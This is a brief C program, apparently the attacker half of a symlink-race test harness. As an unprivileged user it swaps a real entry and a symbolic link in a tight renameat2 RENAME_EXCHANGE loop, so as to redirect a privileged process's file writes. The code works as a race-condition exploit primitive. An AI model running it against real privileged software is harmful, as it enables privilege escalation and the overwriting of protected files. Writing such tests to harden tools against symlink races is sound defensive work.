// The attacker of Scripts/symlink-race.sh: an unprivileged user exchanging two names in a folder
// it owns, as fast as it can, for as long as it runs (renameat2 RENAME_EXCHANGE: both names
// always exist, one is the real entry, the other a symbolic link to where the attacker wants a
// privileged writer to go).
//   swap A B
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: swap A B\n");
    return 64;
  }
  if (getuid() == 0 || geteuid() == 0) {
    fprintf(stderr, "swap: run me as an unprivileged user\n");
    return 64;
  }
  for (unsigned long n = 0;; n++) {
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
      perror("swap: renameat2");
      return 1;
    }
  }
}
